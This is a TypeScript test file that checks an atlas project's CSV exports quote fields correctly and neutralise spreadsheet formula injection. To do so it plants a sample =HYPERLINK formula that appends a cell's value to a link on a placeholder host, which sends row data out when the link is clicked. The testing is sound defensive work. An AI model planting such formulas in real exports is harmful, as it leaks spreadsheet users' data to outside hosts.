import { unzipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import type { PlaceFeature } from '../../src/content/atlas-data.ts';
import { atlasData } from '../../src/content/atlas-data.ts';
import { BYTE_ORDER_MARK, csvField, csvRows } from '../../src/export/csv.ts';
import { placesCsv, sentencesCsv } from '../../src/export/data-tables.ts';
import { selectionCsv } from '../../src/export/selection-download.ts';
import { compareCsv, type CompareCsvLabels } from '../../src/spatial/compare-csv.ts';
import { compareRows } from '../../src/spatial/compare.ts';
import { buildDataZip } from '../../scripts/data-package/data-zip.ts';
import { readDataZipInput } from '../../scripts/data-package/inputs.ts';
import { ctx, document, placesCollection } from './spatial-fixture.ts';

describe('the CSV writer', () => {
  it.each([
    ['plain', 'plain'],
    ['a, b', '"a, b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['=HYPERLINK("x")', '"\'=HYPERLINK(""x"")"'],
    ['+1', "'+1"],
    ['-2+3', "'-2+3"],
    ['@sum', "'@sum"],
    ['\t=1', "'\t=1"],
    ['\r=1', '"\'\r=1"'],
    ['a=1', 'a=1'],
    ['大连市', '大连市'],
  ])('writes the text %j as %j', (value, cell) => {
    expect(csvField(value)).toBe(cell);
  });

  it('writes numbers as they are, a negative one included, and null as an empty field', () => {
    expect([csvField(-5), csvField(121.6), csvField(null)]).toEqual(['-5', '121.6', '']);
  });

  it('starts with the byte-order mark and ends every row with CRLF', () => {
    expect(csvRows([['a', 'b'], ['c', 'd']])).toBe(`${BYTE_ORDER_MARK}a,b\r\nc,d\r\n`);
  });
});

/** Text a spreadsheet would run: a link that sends the row elsewhere when clicked. */
const FORMULA = '=HYPERLINK("http://example.invalid/?"&A1,"open")';
const GUARDED = '"\'=HYPERLINK(""http://example.invalid/?""&A1,""open"")"';

/** The committed data with Dalian's English name and the text of sentence I.5.s12 replaced by a formula. */
function hostileData() {
  const places = {
    ...placesCollection,
    features: placesCollection.features.map((f) => (f.properties.id === 'dalian' ? { ...f, properties: { ...f.properties, name_en: FORMULA } } : f)),
  };
  const doc = structuredClone(document);
  const data = atlasData(doc, places);
  // The entry holds the document's own sentence object, so the document written to data.zip changes too.
  data.sentenceById.get('I.5.s12')!.sentence.text = FORMULA;
  return { places, doc, data };
}

describe('every export guards against spreadsheet formulas', () => {
  const { places, doc, data } = hostileData();
  const dalian = data.placeById.get('dalian') as PlaceFeature;

  it('places.csv', () => {
    expect(placesCsv(data, [dalian])).toContain(`,${GUARDED},`);
  });

  it('sentences.csv', () => {
    expect(sentencesCsv(data, [data.sentenceById.get('I.5.s12')!])).toContain(`,${GUARDED},`);
  });

  it('the selection’s CSV from the share dialog', () => {
    expect(selectionCsv({ kind: 'sentence', id: 'I.5.s12' }, data)).toContain(`,${GUARDED},`);
  });

  it('both tables of the data package (data.zip)', () => {
    const zip = unzipSync(
      buildDataZip({ ...readDataZipInput(), documentJson: JSON.stringify(doc), placesJson: JSON.stringify(places), version: '1.0.0', dataDate: '2024-01-01' }),
    );
    const text = (name: string) => new TextDecoder().decode(zip[name]);
    expect(text('places.csv')).toContain(`,${GUARDED},`);
    expect(text('sentences.csv')).toContain(`,${GUARDED},`);
  });

  it('the comparison', () => {
    const labels: CompareCsvLabels = {
      lang: 'en',
      place: 'Place',
      designations: 'Designations',
      zones: 'Lies in',
      sentenceCount: 'Sentences',
      clauses: 'Clauses',
      seaport: 'Nearest seaport',
      borderCrossing: 'Nearest border crossing',
      airport: 'Nearest airport',
      kmOf: '{what}, km',
      landBorderKm: 'Land border, km',
      landBorderUnderPrecision: 'under 5 km',
      openedOf: '{what}, opened',
      searchedHeading: 'Chosen from',
      searched: 'all listed',
      asOfHeading: 'As of',
      asOf: 2025,
      clause: 'clause {n}',
      opening: 'opening',
      preamble: 'preamble',
    };
    const rows = compareRows(['dalian', 'harbin'], { ...ctx, data }, () => ['@designation']);
    const csv = compareCsv(rows, labels);
    expect(csv.split('\r\n')[1]).toMatch(new RegExp(`^${GUARDED.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')},'@designation,`));
  });
});
